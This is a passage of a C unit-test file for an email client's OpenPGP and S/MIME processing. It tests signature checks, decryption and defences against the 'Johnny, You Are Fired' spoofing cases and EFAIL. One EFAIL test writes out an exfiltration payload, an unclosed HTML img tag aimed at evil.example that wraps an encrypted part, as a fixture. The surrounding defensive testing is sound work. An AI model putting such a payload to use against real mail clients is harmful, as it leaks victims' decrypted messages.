/* test_crypto.c - OpenPGP and S/MIME through GPGME.  A throwaway GnuPG
 * home per run (tests/unit/crypto_fixture.sh: keys made by gpg, an S/MIME
 * CA by certtool and gpgsm); the messages read here are made by gpg and
 * gpgsm themselves (the outside truth), and what crypto_wrap() writes is
 * checked with gpg --verify / --decrypt.  The hostile cases of the
 * "Johnny, You Are Fired!" study and EFAIL each have a test. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "testutil.h"
#include "autocrypt.h"
#include "crypto.h"
#include "encode.h"
#include "mime.h"
#include "util.h"

static char *dir;    /* the run's temp dir */
static char *home;   /* dir/gnupg */
static char fpr_alice[64], fpr_mallory[64], fpr_bob[64], fpr_smime[64], fpr_team1[64];
static crypto_t *cx;
static mime_msg_t *msg; /* of the last process() */

static void key_read(const char *keys, const char *name, char *out)
{
	char *pat = xasprintf("\n%s=", name);
	char *all = xasprintf("\n%s", keys);
	const char *p = strstr(all, pat);
	assert_non_null(p);
	p += strlen(pat);
	size_t n = strcspn(p, "\n");
	assert_true(n > 0 && n < 64);
	memcpy(out, p, n);
	out[n] = '\0';
	free(pat);
	free(all);
}

static int group_setup(void **state)
{
	(void)state;
	dir = tu_tmpdir();
	home = xasprintf("%s/gnupg", dir);
	setenv("GNUPGHOME", home, 1);
	const char *src = getenv("MUTTLIKE_SRCDIR");
	int st;
	char *out = tu_run(&st, "%s/tests/unit/crypto_fixture.sh %s", src ? src : ".", dir);
	if (st != 0) {
		fprintf(stderr, "fixture failed: %s\n", out);
		return -1;
	}
	free(out);
	char *path = xasprintf("%s/keys", dir);
	char *keys = tu_read(path);
	free(path);
	key_read(keys, "alice", fpr_alice);
	key_read(keys, "mallory", fpr_mallory);
	key_read(keys, "bob", fpr_bob);
	key_read(keys, "smime", fpr_smime);
	key_read(keys, "team1", fpr_team1);
	free(keys);
	char *err = NULL;
	cx = crypto_new(&(struct crypto_opts){.gnupg_home = home}, &err);
	assert_non_null(cx);
	return 0;
}

static int group_teardown(void **state)
{
	(void)state;
	crypto_free(&cx);
	int st;
	free(tu_run(&st, "GNUPGHOME=%s gpgconf --kill all; GNUPGHOME=%s/other gpgconf --kill all", home, dir));
	tu_rmtree(dir);
	free(dir);
	free(home);
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	mime_msg_free(&msg);
	return 0;
}

/* Run a shell command in dir (GNUPGHOME set); fail the test unless it exits 0. */
static void sh(const char *fmt, ...) ML_PRINTF(1, 2);
static void sh(const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	char *cmd = xvasprintf(fmt, ap);
	va_end(ap);
	int st;
	char *out = tu_run(&st, "cd %s && %s", dir, cmd);
	if (st != 0)
		fail_msg("%s: exit %d: %s", cmd, st, out);
	free(out);
	free(cmd);
}

static char *put(const char *name, const char *text)
{
	return tu_write(dir, name, text, 0600);
}

static char *get(const char *name)
{
	char *path = xasprintf("%s/%s", dir, name);
	char *s = tu_read(path);
	assert_non_null(s);
	free(path);
	return s;
}

static struct crypto_report *process(const char *text)
{
	mime_msg_free(&msg);
	assert_int_equal(mime_msg_parse(text, strlen(text), &msg), MIME_OK);
	return crypto_process(cx, msg);
}

#define PART "Content-Type: text/plain; charset=us-ascii\n\nHello, this is signed.\n"

/* multipart/signed around part (LF line ends, as in a Maildir file), the
 * signature made by gpg -u signer over the CRLF form (GNUPGHOME=home). */
static char *pgp_signed(const char *part, const char *signer, const char *gnupghome)
{
	free(put("part.txt", part));
	sh("sed 's/$/\\r/' part.txt > part.crlf && GNUPGHOME=%s gpg --batch --yes -q -u %s -a --detach-sign -o - part.crlf > "
	   "part.sig",
	   gnupghome, signer);
	char *sig = get("part.sig");
	char *m = xasprintf("Content-Type: multipart/signed; micalg=pgp-sha256;\n protocol=\"application/pgp-signature\"; "
			    "boundary=\"b1\"\n\nPreamble\n--b1\n%s\n--b1\nContent-Type: application/pgp-signature\n\n%s\n--b1--\n",
			    part, sig);
	free(sig);
	return m;
}

/* multipart/encrypted of entity, made by gpg with extra options. */
static char *pgp_encrypted(const char *entity, const char *opts)
{
	free(put("plain.txt", entity));
	sh("gpg --batch --yes -q --always-trust %s -a -o - plain.txt > cipher.asc 2>/dev/null", opts);
	char *c = get("cipher.asc");
	char *m = xasprintf("Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"e1\"\n\n"
			    "--e1\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--e1\n"
			    "Content-Type: application/octet-stream\n\n%s\n--e1--\n",
			    c);
	free(c);
	return m;
}

static char *with_from(const char *from, const char *body)
{
	return xasprintf("From: %s\nTo: bob@example.org\nSubject: test\nMIME-Version: 1.0\n%s", from, body);
}

/* ---- PGP/MIME signed ---- */

static void test_pgp_signed_good(void **state)
{
	(void)state;
	char *s = pgp_signed(PART, "alice@example.org", home);
	char *m = with_from("Alice <alice@example.org>", s);
	struct crypto_report *r = process(m);
	assert_int_equal(r->n, 1);
	struct crypto_result *res = &r->v[0];
	assert_int_equal(res->kind, CRYPTO_PGP_MIME_SIGNED);
	assert_int_equal(res->status, CRYPTO_GOOD);
	assert_true(res->is_signed && !res->encrypted && res->whole && res->from_matches && !res->forwarded);
	assert_string_equal(res->path, "1");
	assert_string_equal(res->signer, "Alice <alice@example.org>");
	assert_string_equal(res->fingerprint, fpr_alice);
	assert_true(res->validity >= CRYPTO_V_FULL);
	assert_non_null(strstr(res->content, "Hello, this is signed.\r\n"));
	assert_string_equal(mime_part_type(mime_msg_root(res->inner)), "text/plain");
	assert_int_equal(r->unprotected, 0);
	crypto_report_free(&r);
	assert_null(r);
	free(m);
	free(s);
}

static void test_pgp_signed_bad(void **state)
{
	(void)state;
	char *s = pgp_signed(PART, "alice@example.org", home);
	char *hit = strstr(s, "Hello, this");
	hit[0] = 'J'; /* the content changed after signing */
	char *m = with_from("alice@example.org", s);
	struct crypto_report *r = process(m);
	assert_int_equal(r->n, 1);
	assert_int_equal(r->v[0].status, CRYPTO_BAD);
	crypto_report_free(&r);
	free(m);
	free(s);
}

static void test_pgp_signed_unknown_key(void **state)
{
	(void)state;
	char *other = xasprintf("%s/other", dir);
	char *s = pgp_signed(PART, "zed@example.org", other);
	char *m = with_from("zed@example.org", s);
	struct crypto_report *r = process(m);
	assert_int_equal(r->n, 1);
	assert_int_equal(r->v[0].status, CRYPTO_UNKNOWN_KEY);
	assert_false(r->v[0].from_matches);
	assert_null(r->v[0].signer);
	crypto_report_free(&r);
	free(m);
	free(s);
	free(other);
}

/* Johnny: a signer whose user id is not the From: address. */
static void test_signer_not_from(void **state)
{
	(void)state;
	char *s = pgp_signed(PART, "mallory@example.org", home);
	char *m = with_from("Alice <alice@example.org>", s);
	struct crypto_report *r = process(m);
	assert_int_equal(r->n, 1);
	assert_int_equal(r->v[0].status, CRYPTO_GOOD);
	assert_false(r->v[0].from_matches);
	assert_string_equal(r->v[0].signer, "Mallory <mallory@example.org>");
	assert_string_equal(r->v[0].fingerprint, fpr_mallory);
	char *line = crypto_result_line(&r->v[0]);
	assert_non_null(strstr(line, "NOT the From: address"));
	free(line);
	crypto_report_free(&r);
	free(m);
	free(s);
}

/* Johnny: a signed part wrapped in an unsigned multipart/mixed. */
static void test_signed_part_wrapped(void **state)
{
	(void)state;
	char *s = pgp_signed(PART, "alice@example.org", home);
	char *body = xasprintf("Content-Type: multipart/mixed; boundary=\"w\"\n\n--w\nContent-Type: text/plain\n\n"
			       "You are fired.\n--w\n%s\n--w--\n",
			       s);
	char *m = with_from("alice@example.org", body);
	struct crypto_report *r = process(m);
	assert_int_equal(r->n, 1);
	assert_int_equal(r->v[0].status, CRYPTO_GOOD);
	assert_false(r->v[0].whole);
	assert_string_equal(r->v[0].path, "3");
	assert_int_equal(r->unprotected, 1);
	assert_null(strstr(r->v[0].content, "fired"));
	char *line = crypto_result_line(&r->v[0]);
	assert_non_null(strstr(line, "part 3: PGP/MIME signed: good signature from Alice <alice@example.org>"));
	assert_non_null(strstr(line, "only this part"));
	free(line);
	crypto_report_free(&r);
	free(m);
	free(body);
	free(s);
}

/* Johnny: a signed message forwarded as message/rfc822. */
static void test_signed_forwarded(void **state)
{
	(void)state;
	char *s = pgp_signed(PART, "alice@example.org", home);
	char *inner = with_from("alice@example.org", s);
	char *body = xasprintf("Content-Type: multipart/mixed; boundary=\"f\"\n\n--f\nContent-Type: text/plain\n\n"
			       "See below.\n--f\nContent-Type: message/rfc822\n\n%s\n--f--\n",
			       inner);
	char *m = with_from("mallory@example.org", body);
	struct crypto_report *r = process(m);
	assert_int_equal(r->n, 1);
	assert_int_equal(r->v[0].status, CRYPTO_GOOD);
	assert_true(r->v[0].forwarded);
	assert_false(r->v[0].whole);
	assert_string_equal(r->v[0].path, "3>1");
	assert_true(r->v[0].from_matches); /* the forwarded message's From:, not mallory's */
	crypto_report_free(&r);
	free(m);
	free(body);
	free(inner);
	free(s);
}

/* ---- PGP/MIME encrypted ---- */

static void test_pgp_encrypted(void **state)
{
	(void)state;
	char *e = pgp_encrypted("Content-Type: text/plain\n\nThe secret text.\n", "-e -r alice@example.org");
	char *m = with_from("bob@example.org", e);
	struct crypto_report *r = process(m);
	assert_int_equal(r->n, 1);
	struct crypto_result *res = &r->v[0];
	assert_int_equal(res->kind, CRYPTO_PGP_MIME_ENCRYPTED);
	assert_int_equal(res->status, CRYPTO_NONE);
	assert_true(res->encrypted && res->decrypted && res->integrity && res->whole && !res->is_signed);
	assert_non_null(strstr(res->content, "The secret text."));
	assert_string_equal(mime_part_type(mime_msg_root(res->inner)), "text/plain");
	crypto_report_free(&r);
	free(m);
	free(e);
}

static void test_pgp_encrypted_signed(void **state)
{
	(void)state;
	char *e = pgp_encrypted("Content-Type: text/plain\n\nSigned and secret.\n",
				"-u mallory@example.org -s -e -r alice@example.org");
	char *m = with_from("alice@example.org", e);
	struct crypto_report *r = process(m);
	assert_int_equal(r->n, 1);
	assert_true(r->v[0].decrypted && r->v[0].is_signed);
	assert_int_equal(r->v[0].status, CRYPTO_GOOD);
	assert_false(r->v[0].from_matches);
	assert_string_equal(r->v[0].fingerprint, fpr_mallory);
	crypto_report_free(&r);
	free(m);
	free(e);
}

/* Signed inside encrypted, and encrypted inside signed. */
static void test_nested(void **state)
{
	(void)state;
	char *s = pgp_signed(PART, "alice@example.org", home);
	char *e = pgp_encrypted(s, "-e -r alice@example.org");
	char *m = with_from("alice@example.org", e);
	struct crypto_report *r = process(m);
	assert_int_equal(r->n, 2);
	assert_string_equal(r->v[0].path, "1");
	assert_true(r->v[0].decrypted);
	assert_string_equal(r->v[1].path, "1/1");
	assert_int_equal(r->v[1].kind, CRYPTO_PGP_MIME_SIGNED);
	assert_int_equal(r->v[1].status, CRYPTO_GOOD);
	assert_true(r->v[1].whole && r->v[1].from_matches);
	crypto_report_free(&r);
	free(m);

	char *e2 = pgp_encrypted("Content-Type: text/plain\n\nInner secret.\n", "-e -r alice@example.org");
	char *s2 = pgp_signed(e2, "alice@example.org", home);
	m = with_from("alice@example.org", s2);
	r = process(m);
	assert_int_equal(r->n, 2);
	assert_int_equal(r->v[0].kind, CRYPTO_PGP_MIME_SIGNED);
	assert_int_equal(r->v[0].status, CRYPTO_GOOD);
	assert_string_equal(r->v[1].path, "1/1");
	assert_true(r->v[1].decrypted);
	assert_non_null(strstr(r->v[1].content, "Inner secret."));
	crypto_report_free(&r);
	free(m);
	free(e2);
	free(s2);
	free(e);
	free(s);
}

/* EFAIL: a plaintext part next to a decrypted part stays apart. */
static void test_plaintext_next_to_decrypted(void **state)
{
	(void)state;
	char *e = pgp_encrypted("Content-Type: text/plain\n\nThe secret text.\n", "-e -r alice@example.org");
	char *body = xasprintf("Content-Type: multipart/mixed; boundary=\"x\"\n\n--x\nContent-Type: text/html\n\n"
			       "<img src=\"http://evil.example/\n--x\n%s\n--x\nContent-Type: text/html\n\n\">\n--x--\n",
			       e);
	char *m = with_from("alice@example.org", body);
	struct crypto_report *r = process(m);
	assert_int_equal(r->n, 1);
	assert_string_equal(r->v[0].path, "3");
	assert_false(r->v[0].whole);
	assert_int_equal(r->unprotected, 2);
	assert_null(strstr(r->v[0].content, "evil"));
	assert_null(strchr(r->v[0].content, '>'));
	crypto_report_free(&r);
	free(m);
	free(body);
	free(e);
}

/* EFAIL: ciphertext without integrity protection (no MDC) is refused. */
static void test_no_mdc_refused(void **state)
{
	(void)state;
	char *e = pgp_encrypted("Content-Type: text/plain\n\nNo MDC here.\n",
				"--rfc2440 --cipher-algo CAST5 -e -r alice@example.org");
	sh("gpg --list-packets cipher.asc 2>/dev/null | grep -q 'tag=9'"); /* really a packet without MDC */
	char *m = with_from("alice@example.org", e);
	struct crypto_report *r = process(m);
	assert_int_equal(r->n, 1);
	assert_int_equal(r->v[0].status, CRYPTO_ERROR);
	assert_false(r->v[0].decrypted);
	assert_null(r->v[0].content);
	assert_null(r->v[0].inner);
	assert_non_null(r->v[0].error);
	char *line = crypto_result_line(&r->v[0]);
	assert_non_null(strstr(line, "NOT decrypted"));
	free(line);
	crypto_report_free(&r);
	free(m);
	free(e);
}

/* A ciphertext changed in transit: an error, no plaintext. */
static void test_tampered_ciphertext(void **state)
{
	(void)state;
	free(put("plain.txt", "Content-Type: text/plain\n\nAbout to be tampered with.\n"));
	sh("gpg --batch --yes -q -e -r alice@example.org -o - plain.txt > c.gpg && n=$(stat -c %%s c.gpg) && "
	   "printf '\\125\\125' | dd of=c.gpg bs=1 seek=$((n - 8)) conv=notrunc 2>/dev/null && base64 c.gpg > c.b64");
	char *b64 = get("c.b64");
	char *body = xasprintf("Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"t\"\n\n"
			       "--t\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--t\n"
			       "Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n%s\n--t--\n",
			       b64);
	char *m = with_from("alice@example.org", body);
	struct crypto_report *r = process(m);
	assert_int_equal(r->n, 1);
	assert_int_equal(r->v[0].status, CRYPTO_ERROR);
	assert_false(r->v[0].decrypted);
	assert_null(r->v[0].content);
	crypto_report_free(&r);
	free(m);
	free(body);
	free(b64);
}

/* Bounded work: a part over CRYPTO_MAX_INPUT never reaches GnuPG. */
static void test_size_cap(void **state)
{
	(void)state;
	size_t n = CRYPTO_MAX_INPUT + 4096;
	char *big = xmalloc(n + 1);
	for (size_t i = 0; i < n; i++)
		big[i] = i % 64 == 63 ? '\n' : 'A';
	big[n] = '\0';
	char *body = xasprintf("Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"t\"\n\n"
			       "--t\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--t\n"
			       "Content-Type: application/octet-stream\n\n-----BEGIN PGP MESSAGE-----\n\n%s\n--t--\n",
			       big);
	free(big);
	char *m = with_from("alice@example.org", body);
	free(body);
	struct crypto_report *r = process(m);
	assert_int_equal(r->n, 1);
	assert_int_equal(r->v[0].status, CRYPTO_ERROR);
	assert_non_null(strstr(r->v[0].error, "limit"));
	crypto_report_free(&r);
	free(m);
}

/* Bounded time: a message to many anonymous recipients (every secret key
 * is tried for each) decrypts; with a tiny timeout GnuPG is cancelled. */
static void test_many_recipients_timeout(void **state)
{
	(void)state;
	char *e = pgp_encrypted("Content-Type: text/plain\n\nTo everyone.\n",
				"--throw-keyids -e -r team@example.org -r mallory@example.org -r bob@example.org "
				"-r eve@example.org -r alice@example.org");
	char *m = with_from("alice@example.org", e);
	struct crypto_report *r = process(m);
	assert_int_equal(r->n, 1);
	assert_true(r->v[0].decrypted);
	crypto_report_free(&r);
	char *err = NULL;
	crypto_t *c = crypto_new(&(struct crypto_opts){.gnupg_home = home, .timeout_ms = 1}, &err);
	r = crypto_process(c, msg);
	assert_int_equal(r->n, 1);
	assert_int_equal(r->v[0].status, CRYPTO_ERROR);
	assert_false(r->v[0].decrypted);
	assert_null(r->v[0].content);
	assert_non_null(strstr(r->v[0].error, "imeout"));
	crypto_report_free(&r);
	crypto_free(&c);
	free(m);
	free(e);
}

/* Caps: forwarded messages nested past CRYPTO_MAX_DEPTH are not followed;
 * at most CRYPTO_MAX_INLINE blocks per text part reach GnuPG. */
static void test_caps(void **state)
{
	(void)state;
	char *m = xstrdup("Content-Type: text/plain\n\n-----BEGIN PGP MESSAGE-----\n\nhQ==\n-----END PGP MESSAGE-----\n");
	for (int i = 0; i < CRYPTO_MAX_DEPTH + 4; i++) {
		char *outer = xasprintf("From: f%d@example.org\nContent-Type: message/rfc822\n\n%s", i, m);
		free(m);
		m = outer;
	}
	struct crypto_report *r = process(m);
	assert_int_equal(r->n, 0);
	assert_true(r->truncated);
	crypto_report_free(&r);
	free(m);

	struct strbuf b;
	strbuf_init(&b);
	strbuf_adds(&b, "From: a@example.org\n\n");
	for (int i = 0; i < CRYPTO_MAX_INLINE + 4; i++)
		strbuf_adds(&b, "-----BEGIN PGP MESSAGE-----\n\nhQ==\n-----END PGP MESSAGE-----\n");
	r = process(b.s);
	assert_int_equal(r->n, CRYPTO_MAX_INLINE);
	for (size_t i = 0; i < r->n; i++) {
		assert_int_equal(r->v[i].status, CRYPTO_ERROR);
		assert_null(r->v[i].content);
		assert_true(r->v[i].text_outside);
	}
	crypto_report_free(&r);
	strbuf_free(&b);
}

/* ---- inline PGP ---- */

static void test_inline_signed(void **state)
{
	(void)state;
	free(put("t.txt", "Please pull this patch.\n"));
	sh("gpg --batch --yes -q -u alice@example.org --clearsign -o t.asc t.txt");
	char *asc = get("t.asc");
	char *m = with_from("alice@example.org", asc);
	struct crypto_report *r = process(m);
	assert_int_equal(r->n, 1);
	assert_int_equal(r->v[0].kind, CRYPTO_PGP_INLINE_SIGNED);
	assert_int_equal(r->v[0].status, CRYPTO_GOOD);
	assert_true(r->v[0].whole && !r->v[0].text_outside && r->v[0].from_matches);
	assert_non_null(strstr(r->v[0].content, "Please pull this patch."));
	assert_int_equal(r->unprotected, 0);
	crypto_report_free(&r);
	free(m);

	/* text around the block is not covered by it */
	char *body = xasprintf("Content-Type: text/plain\n\nUnsigned: wire the money.\n%s", asc);
	m = with_from("alice@example.org", body);
	r = process(m);
	assert_int_equal(r->n, 1);
	assert_int_equal(r->v[0].status, CRYPTO_GOOD);
	assert_true(r->v[0].text_outside);
	assert_false(r->v[0].whole);
	assert_true(r->v[0].inline_start > 0);
	assert_null(strstr(r->v[0].content, "money"));
	assert_int_equal(r->unprotected, 1);
	crypto_report_free(&r);
	free(m);
	free(body);
	free(asc);
}

static void test_inline_expired_revoked(void **state)
{
	(void)state;
	char *carol = get("carol.asc"), *dave = get("dave.asc");
	char *m = with_from("carol@example.org", carol);
	struct crypto_report *r = process(m);
	assert_int_equal(r->n, 1);
	assert_int_equal(r->v[0].status, CRYPTO_EXPIRED_KEY);
	crypto_report_free(&r);
	free(m);
	m = with_from("dave@example.org", dave);
	r = process(m);
	assert_int_equal(r->n, 1);
	assert_int_equal(r->v[0].status, CRYPTO_REVOKED_KEY);
	crypto_report_free(&r);
	free(m);
	free(carol);
	free(dave);
}

static void test_inline_encrypted(void **state)
{
	(void)state;
	free(put("t.txt", "Inline secret.\n"));
	sh("gpg --batch --yes -q -r alice@example.org -a -e -o t.asc t.txt");
	char *asc = get("t.asc");
	char *m = with_from("bob@example.org", asc);
	struct crypto_report *r = process(m);
	assert_int_equal(r->n, 1);
	assert_int_equal(r->v[0].kind, CRYPTO_PGP_INLINE_ENCRYPTED);
	assert_true(r->v[0].decrypted && r->v[0].integrity);
	assert_string_equal(r->v[0].content, "Inline secret.\n");
	assert_null(r->v[0].inner);
	crypto_report_free(&r);
	free(m);
	free(asc);
}

/* ---- S/MIME ---- */

static void test_smime_detached(void **state)
{
	(void)state;
	free(put("part.txt", PART));
	sh("sed 's/$/\\r/' part.txt > part.crlf && gpgsm --batch --yes -u alice@example.org --detach-sign -o part.p7s part.crlf "
	   "2>/dev/null && base64 part.p7s > part.b64");
	char *b64 = get("part.b64");
	char *body = xasprintf("Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; "
			       "boundary=\"s\"\n\n--s\n%s\n--s\nContent-Type: application/pkcs7-signature\n"
			       "Content-Transfer-Encoding: base64\n\n%s\n--s--\n",
			       PART, b64);
	char *m = with_from("alice@example.org", body);
	struct crypto_report *r = process(m);
	assert_int_equal(r->n, 1);
	assert_int_equal(r->v[0].kind, CRYPTO_SMIME_SIGNED);
	assert_int_equal(r->v[0].status, CRYPTO_GOOD);
	assert_true(r->v[0].from_matches);
	assert_string_equal(r->v[0].fingerprint, fpr_smime);
	assert_non_null(strstr(r->v[0].signer, "CN=Alice"));
	assert_true(r->v[0].validity >= CRYPTO_V_FULL); /* the chain ends at the trusted test CA */
	crypto_report_free(&r);
	free(m);
	free(body);
	free(b64);
}

static char *smime_app(const char *type, const char *file)
{
	sh("base64 %s > app.b64", file);
	char *b64 = get("app.b64");
	char *m = xasprintf("From: alice@example.org\nContent-Type: application/pkcs7-mime; smime-type=%s; name=smime.p7m\n"
			    "Content-Transfer-Encoding: base64\n\n%s",
			    type, b64);
	free(b64);
	return m;
}

static void test_smime_opaque_and_enveloped(void **state)
{
	(void)state;
	free(put("part.txt", "Content-Type: text/plain\r\n\r\nOpaque signed.\r\n"));
	sh("gpgsm --batch --yes -u alice@example.org --sign -o part.p7m part.txt 2>/dev/null");
	char *m = smime_app("signed-data", "part.p7m");
	struct crypto_report *r = process(m);
	assert_int_equal(r->n, 1);
	assert_int_equal(r->v[0].kind, CRYPTO_SMIME_OPAQUE);
	assert_int_equal(r->v[0].status, CRYPTO_GOOD);
	assert_non_null(strstr(r->v[0].content, "Opaque signed."));
	crypto_report_free(&r);
	free(m);

	free(put("part.txt", "Content-Type: text/plain\r\n\r\nEnveloped secret.\r\n"));
	sh("gpgsm --batch --yes -r alice@example.org --encrypt -o part.p7m part.txt 2>/dev/null");
	m = smime_app("enveloped-data", "part.p7m");
	r = process(m);
	assert_int_equal(r->n, 1);
	assert_int_equal(r->v[0].kind, CRYPTO_SMIME_ENVELOPED);
	assert_true(r->v[0].decrypted);
	assert_false(r->v[0].integrity); /* CMS enveloped-data has no MAC */
	assert_non_null(strstr(r->v[0].content, "Enveloped secret."));
	crypto_report_free(&r);
	free(m);
}

/* ---- writing, checked by gpg and gpgsm ---- */

#define ENTITY "Content-Type: text/plain; charset=us-ascii\nContent-Transfer-Encoding: 7bit\n\nHi Bob,\nsee you.\n"

static char *wrap(const struct crypto_write *w, const char *entity)
{
	char *out = NULL, *err = NULL;
	size_t n;
	int rc = crypto_wrap(cx, w, entity, strlen(entity), &out, &n, &err);
	if (rc != 0)
		fail_msg("crypto_wrap: %s", err);
	assert_int_equal(strlen(out), n);
	return out;
}

static void test_write_pgp_signed(void **state)
{
	(void)state;
	char *out = wrap(&(struct crypto_write){.proto = CRYPTO_OPENPGP, .sign = true, .signer = fpr_alice}, ENTITY);
	assert_non_null(strstr(out, "protocol=\"application/pgp-signature\""));
	assert_non_null(strstr(out, "micalg=pgp-sha"));
	/* gpg checks the first part's exact bytes against the signature */
	mime_msg_t *m = NULL;
	mime_msg_parse(out, strlen(out), &m);
	char *body;
	size_t bl, sl, gl;
	const char *sp, *gp;
	mime_part_decode(mime_msg_root(m), &body, &bl);
	assert_true(crypto_signed_split(body, bl, mime_part_param(mime_msg_root(m), "boundary"), &sp, &sl, &gp, &gl));
	char *signed_text = xstrndup(sp, sl), *sig = xstrndup(gp, gl);
	free(put("w.txt", signed_text));
	free(put("w.sig", strstr(sig, "-----BEGIN")));
	sh("gpg --batch --verify w.sig w.txt 2>&1 | grep -q 'Good signature from \"Alice'");
	free(signed_text);
	free(sig);
	free(body);
	mime_msg_free(&m);
	/* and our reader agrees */
	char *msgtext = with_from("alice@example.org", out);
	struct crypto_report *r = process(msgtext);
	assert_int_equal(r->n, 1);
	assert_int_equal(r->v[0].status, CRYPTO_GOOD);
	assert_non_null(strstr(r->v[0].content, "Hi Bob,\r\nsee you.\r\n"));
	crypto_report_free(&r);
	free(msgtext);
	free(out);
}

static void test_write_pgp_encrypted(void **state)
{
	(void)state;
	const char *rcpt[] = {fpr_bob};
	char *out = wrap(&(struct crypto_write){.proto = CRYPTO_OPENPGP, .sign = true, .encrypt = true,
						 .signer = fpr_alice, .recipients = rcpt, .nrecipients = 1,
						 .self = fpr_alice, .subject = "Secret plans"},
			 ENTITY);
	assert_null(strstr(out, "Secret plans"));
	assert_null(strstr(out, "see you"));
	size_t pos = 0, start, len;
	enum crypto_armor kind;
	assert_true(crypto_armor_find(out, strlen(out), &pos, &start, &len, &kind));
	assert_int_equal(kind, CRYPTO_ARMOR_MESSAGE);
	char *armor = xstrndup(out + start, len);
	free(put("w.asc", armor));
	/* encrypted to self (alice) and to bob, signed by alice */
	sh("gpg --batch --decrypt w.asc > w.out 2> w.err && grep -q 'Good signature from \"Alice' w.err");
	sh("test $(gpg --batch --list-only --list-packets w.asc 2>/dev/null | grep -c 'pubkey enc packet') = 2");
	char *plain = get("w.out");
	assert_non_null(strstr(plain, "Subject: Secret plans\r\n"));
	assert_non_null(strstr(plain, "protected-headers=\"v1\""));
	assert_non_null(strstr(plain, "Hi Bob,\r\nsee you."));
	/* our reader: one combined signed + encrypted part, the protected Subject inside */
	char *m = xasprintf("From: alice@example.org\nSubject: %s\n%s", CRYPTO_HIDDEN_SUBJECT, out);
	struct crypto_report *r = process(m);
	assert_int_equal(r->n, 1);
	assert_true(r->v[0].decrypted && r->v[0].integrity && r->v[0].whole);
	assert_int_equal(r->v[0].status, CRYPTO_GOOD);
	assert_true(r->v[0].from_matches);
	assert_string_equal(mime_msg_header(r->v[0].inner, MIME_H_SUBJECT), "Secret plans");
	assert_string_equal(mime_part_param(mime_msg_root(r->v[0].inner), "protected-headers"), "v1");
	crypto_report_free(&r);
	free(m);
	free(plain);
	free(armor);
	free(out);
}

/* The UI's prompt: answers what ud points to, counts the calls. */
struct answer {
	const char *pw;
	int calls;
};

static char *ask(void *ud, const char *hint, bool prev_bad)
{
	(void)prev_bad;
	struct answer *a = ud;
	a->calls++;
	assert_non_null(strstr(hint, "Bob"));
	return a->pw ? xstrdup(a->pw) : NULL;
}

/* Bob's key has a passphrase: asked through loopback pinentry. */
static void test_loopback_passphrase(void **state)
{
	(void)state;
	struct answer a = {0};
	char *err = NULL, *out = NULL;
	size_t n;
	crypto_t *c = crypto_new(&(struct crypto_opts){.gnupg_home = home, .passphrase = ask, .passphrase_ud = &a}, &err);
	struct crypto_write w = {.proto = CRYPTO_OPENPGP, .sign = true, .signer = fpr_bob};
	static const char *const tries[] = {NULL, "wrong"}; /* cancelled, then a wrong passphrase */
	for (size_t i = 0; i < ARRAY_SIZE(tries); i++) {
		a = (struct answer){.pw = tries[i]};
		assert_int_equal(crypto_wrap(c, &w, ENTITY, strlen(ENTITY), &out, &n, &err), -1);
		assert_int_equal(a.calls, 1);
		assert_null(out);
		assert_non_null(err);
		free(err);
	}
	a = (struct answer){.pw = "bob-secret"};
	if (crypto_wrap(c, &w, ENTITY, strlen(ENTITY), &out, &n, &err) != 0)
		fail_msg("signing as bob: %s (%d calls)", err, a.calls);
	assert_int_equal(a.calls, 1);
	char *m = with_from("bob@example.org", out);
	struct crypto_report *r = process(m);
	assert_int_equal(r->v[0].status, CRYPTO_GOOD);
	assert_string_equal(r->v[0].fingerprint, fpr_bob);
	crypto_report_free(&r);
	free(m);
	free(out);
	crypto_free(&c);
}

static void test_write_smime(void **state)
{
	(void)state;
	const char *rcpt[] = {fpr_smime};
	char *out = wrap(&(struct crypto_write){.proto = CRYPTO_SMIME, .sign = true, .signer = fpr_smime}, ENTITY);
	assert_non_null(strstr(out, "application/pkcs7-signature"));
	char *m = with_from("alice@example.org", out);
	struct crypto_report *r = process(m);
	assert_int_equal(r->n, 1);
	assert_int_equal(r->v[0].status, CRYPTO_GOOD);
	crypto_report_free(&r);
	free(m);
	free(out);

	out = wrap(&(struct crypto_write){.proto = CRYPTO_SMIME, .sign = true, .encrypt = true, .signer = fpr_smime,
					  .recipients = rcpt, .nrecipients = 1},
		   ENTITY);
	assert_non_null(strstr(out, "smime-type=enveloped-data"));
	char *b64 = strstr(out, "\r\n\r\n") + 4;
	free(put("w.b64", b64));
	sh("tr -d '\\r' < w.b64 | base64 -d > w.p7m && gpgsm --batch --yes --decrypt w.p7m > w.out 2>/dev/null && grep -q 'see you' w.out");
	m = with_from("alice@example.org", out);
	r = process(m);
	assert_int_equal(r->n, 2);
	assert_true(r->v[0].decrypted);
	assert_string_equal(r->v[1].path, "1/1");
	assert_int_equal(r->v[1].status, CRYPTO_GOOD);
	crypto_report_free(&r);
	free(m);
	free(out);
}

static void test_key_choice(void **state)
{
	(void)state;
	struct crypto_keysel k;
	crypto_key_for(cx, CRYPTO_OPENPGP, "Alice@Example.org", true, &k);
	assert_int_equal(k.status, CRYPTO_KEY_OK);
	assert_string_equal(k.fpr, fpr_alice);
	crypto_keysel_clear(&k);
	crypto_key_for(cx, CRYPTO_OPENPGP, "team@example.org", true, &k);
	assert_int_equal(k.status, CRYPTO_KEY_AMBIGUOUS);
	assert_int_equal(k.n, 2);
	assert_true(strcmp(k.fprs[0], fpr_team1) == 0 || strcmp(k.fprs[1], fpr_team1) == 0);
	crypto_keysel_clear(&k);
	static const struct {
		const char *addr, *reason;
		enum crypto_keysel_status st;
	} refused[] = {
		{"nobody@example.org", "no public key for nobody@example.org", CRYPTO_KEY_MISSING},
		{"carol@example.org", "carol@example.org is expired", CRYPTO_KEY_UNUSABLE},
		{"dave@example.org", "dave@example.org is revoked", CRYPTO_KEY_UNUSABLE},
		{"eve@example.org", "not certified", CRYPTO_KEY_UNUSABLE},
	};
	for (size_t i = 0; i < ARRAY_SIZE(refused); i++) {
